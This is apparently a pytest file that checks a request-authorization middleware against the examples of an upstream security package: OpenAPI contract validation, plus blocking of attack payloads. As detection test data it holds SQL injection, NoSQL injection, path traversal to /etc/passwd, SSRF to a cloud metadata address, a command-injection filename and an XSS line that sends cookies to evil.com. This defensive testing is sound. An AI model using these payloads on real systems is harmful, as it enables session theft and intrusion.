"""The examples of upstream's ``contractshield`` Python package (1.5.8, ``examples/*.py``),
ported to a policy and our middleware as docs/migrating-from-contractshield-python.md maps
them, and the behaviour each example describes, checked against ours.

Our own code: only the facts carry over (which options, which payloads, which answers).
Where upstream's code does something else than its example says, the test says which we do.
"""

from __future__ import annotations

import textwrap
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from extauthz import Decision, Identity, RequestContext, evaluate
from extauthz.middleware import DenyResponse
from extauthz.middleware.asgi import EmbeddedASGIMiddleware
from extauthz.policy import load_policy_text

# --- examples/fastapi_basic.py ------------------------------------------------------------
# ContractShieldConfig(enable_vulnerability_scan=True, vuln_enable_sqli=True,
# vuln_enable_xss=True, vuln_enable_ssrf=True, mode="enforce", block_response_code=403,
# block_response_body={...}, exclude_paths=[r"^/health$", r"^/metrics$"])
BASIC_POLICY = """
policyVersion: "0.1"
defaults:
  mode: enforce                       # mode="enforce"
  response: {blockStatusCode: 403}    # block_response_code=403
  vulnerabilityChecks:                # the package's defaults, plus what the example turns on
    prototypePollution: true
    pathTraversal: true
    ssrfInternal: true
    sqlInjection: true                # vuln_enable_sqli (on by default there, opt-in here)
    xss: true                         # vuln_enable_xss (likewise)
routes:
  - id: health                        # exclude_paths: a route whose checks are all off
    match: {method: GET, path: /health}
    vulnerability: {prototypePollution: false, pathTraversal: false, ssrfInternal: false,
                    sqlInjection: false, xss: false}
"""
BLOCK_BODY = {"error": "Request blocked", "message": "Security violation detected"}


class BasicMiddleware(EmbeddedASGIMiddleware):
    """block_response_body: the deny response is the app's to shape."""

    def deny_response(self, decision: Decision) -> DenyResponse:
        import json

        return DenyResponse(decision.status_code, json.dumps(BLOCK_BODY).encode(),
                            (("content-type", "application/json"),))  # fmt: skip


def bearer_identity(scope: Any) -> Identity | None:
    """The example's auth middleware: a Bearer header sets the identity (it says a real app
    validates the token here; so should yours)."""
    for key, value in scope["headers"]:
        if key == b"authorization" and value.startswith(b"Bearer "):
            return Identity(authenticated=True, subject="user-123", tenant="tenant-456",
                            scopes=("read", "write"))  # fmt: skip
    return None


def basic_app(policy_file: Path) -> Starlette:
    async def health(request: Request) -> JSONResponse:
        return JSONResponse({"status": "healthy"})

    async def create_user(request: Request) -> JSONResponse:
        decision: Decision = request.state.contractshield_decision  # get_request_context()
        user = await request.json()
        return JSONResponse(
            {"id": "new-user-id", **user, "requestId": decision.metadata.request_id}
        )

    async def search(request: Request) -> JSONResponse:
        return JSONResponse({"results": [], "query": await request.json()})

    app = Starlette(routes=[
        Route("/health", health),
        Route("/users", create_user, methods=["POST"]),
        Route("/search", search, methods=["POST"]),
    ])  # fmt: skip
    app.add_middleware(
        BasicMiddleware, policy=str(policy_file), hot_reload=False, identity=bearer_identity
    )
    return app


async def call(app: Starlette, method: str, path: str, body: Any = None) -> httpx.Response:
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://app") as client:
        return await client.request(method, path, json=body, headers={"authorization": "Bearer t"})


@pytest.fixture
def basic(tmp_path: Path) -> Starlette:
    path = tmp_path / "policy.yaml"
    path.write_text(BASIC_POLICY)
    return basic_app(path)


async def test_basic_clean_calls_reach_the_app(basic: Starlette) -> None:
    resp = await call(basic, "POST", "/users", {"name": "Alice", "email": "alice@example.com"})
    assert resp.status_code == 200
    assert resp.json()["name"] == "Alice" and resp.json()["requestId"]
    resp = await call(basic, "GET", "/health")
    assert (resp.status_code, resp.json()) == (200, {"status": "healthy"})


@pytest.mark.parametrize(
    "payload",
    [  # the search endpoint's docstring: "Example attack payloads that ContractShield will block"
        {"query": "1 UNION SELECT * FROM users"},
        {"query": "<script>alert('xss')</script>"},
        {"url": "http://169.254.169.254/latest/meta-data/"},
        {"__proto__": {"admin": True}},
    ],
)
async def test_basic_the_payloads_its_docstring_lists_are_blocked(
    basic: Starlette, payload: dict[str, Any]
) -> None:
    resp = await call(basic, "POST", "/search", payload)
    assert (resp.status_code, resp.json()) == (403, BLOCK_BODY)


# --- examples/openapi_validation.py -------------------------------------------------------
# ContractShieldConfig(openapi_path=spec_path, validate_request=True,
# enable_vulnerability_scan=True, mode="enforce")
PRODUCTS_SPEC = """
openapi: 3.0.3
info: {title: Product API, version: 1.0.0}
paths:
  /products:
    post:
      operationId: createProduct
      requestBody:
        required: true
        content:
          application/json:
            schema:
              type: object
              required: [name, price]
              properties:
                name: {type: string, minLength: 1, maxLength: 100}
                price: {type: number, minimum: 0}
                description: {type: string, maxLength: 1000}
      responses: {"201": {description: Product created}}
  /products/{productId}:
    get:
      operationId: getProduct
      parameters:
        - {name: productId, in: path, required: true,
           schema: {type: string, pattern: '^[a-zA-Z0-9-]+$'}}
      responses: {"200": {description: Success}}
"""


@pytest.fixture
def products(tmp_path: Path) -> Any:
    (tmp_path / "openapi.yaml").write_text(PRODUCTS_SPEC)
    return load_policy_text(
        'policyVersion: "0.1"\nroutes: []\nopenapi: {spec: openapi.yaml}\n', base_dir=tmp_path
    )


def product_ctx(method: str, path: str, body: Any = None) -> RequestContext:
    import json

    request: dict[str, Any] = {"method": method, "path": path, "headers": {}}
    if body is not None:
        request["headers"]["content-type"] = "application/json"
        request["body"] = {"raw": json.dumps(body)}
    return RequestContext.from_dict({"request": request})


@pytest.mark.parametrize(
    ("body", "allowed"),
    [
        ({"name": "Pen", "price": 1.5}, True),
        ({"name": "Pen", "price": 1.5, "description": "blue"}, True),
        ({"name": "Pen"}, False),  # price required
        ({"name": "Pen", "price": -1}, False),  # minimum 0
        ({"name": "", "price": 1}, False),  # minLength 1
        ({"name": "x" * 101, "price": 1}, False),  # maxLength 100
    ],
)
def test_products_the_body_contract_its_docstring_states(
    products: Any, body: dict[str, Any], allowed: bool
) -> None:
    """ "Invalid requests will be rejected with a 403 status." Upstream's middleware records
    schema errors at MEDIUM severity and blocks only on HIGH/CRITICAL, so it lets them pass;
    here a contract violation blocks (403, contract.schema.invalid)."""
    decision = evaluate(products, product_ctx("POST", "/products", body))
    assert decision.allowed is allowed
    if not allowed:
        assert decision.status_code == 403
        assert [h.id for h in decision.rule_hits] == ["contract.schema.invalid"]


def test_products_the_path_parameter_pattern_is_checked_too(products: Any) -> None:
    """ "The productId must match the pattern": upstream validates bodies only; here the
    operation's declared parameters are checked."""
    assert evaluate(products, product_ctx("GET", "/products/prod-123")).allowed
    decision = evaluate(products, product_ctx("GET", "/products/bad%20id!"))
    assert [h.id for h in decision.rule_hits] == ["contract.parameter.invalid"]


# --- examples/vulnerability_scanner.py -----------------------------------------------------
# VulnerabilityScanner(every check on, nosql and command injection opted in)
SCANNER_POLICY = textwrap.dedent("""
    policyVersion: "0.1"
    defaults:
      vulnerabilityChecks: {prototypePollution: true, pathTraversal: true, ssrfInternal: true,
                            sqlInjection: true, xss: true, nosqlInjection: true,
                            commandInjection: true}
    routes: []
""")


def scan(data: Any) -> list[str]:
    """``scanner.scan(data)``: the check ids that fire on a JSON body."""
    import json

    policy = load_policy_text(SCANNER_POLICY)
    ctx = RequestContext.from_dict({"request": {"method": "POST", "path": "/scan",
        "headers": {"content-type": "application/json"}, "body": {"raw": json.dumps(data)}}})  # fmt: skip
    return [h.id for h in evaluate(policy, ctx).rule_hits]


@pytest.mark.parametrize(
    ("data", "hit"),
    [
        ({"search": "1' UNION SELECT * FROM users --"}, "vulnerability.sqlInjection"),
        ({"comment": "<script>document.location='http://evil.com/steal?cookie='+document.cookie"
                     "</script>"}, "vulnerability.xss"),
        ({"webhook_url": "http://169.254.169.254/latest/meta-data/"}, "vulnerability.ssrfInternal"),
        ({"file": "../../../etc/passwd"}, "vulnerability.pathTraversal"),
        ({"__proto__": {"admin": True}}, "vulnerability.prototypePollution"),
        ({"password": {"$ne": ""}}, "vulnerability.nosqlInjection"),
        ({"filename": "file.txt; cat /etc/passwd"}, "vulnerability.commandInjection"),
        # individual_checkers_demo()
        ({"username": "' OR '1'='1"}, "vulnerability.sqlInjection"),
        ({"bio": "<img onerror='alert(1)'>"}, "vulnerability.xss"),
        ({"callback": "http://localhost:8080/admin"}, "vulnerability.ssrfInternal"),
    ],
)  # fmt: skip
def test_scanner_each_payload_is_found(data: dict[str, Any], hit: str) -> None:
    assert hit in scan(data)


def test_scanner_the_safe_payload_is_clean() -> None:
    assert scan({"name": "John Doe", "email": "john@example.com"}) == []
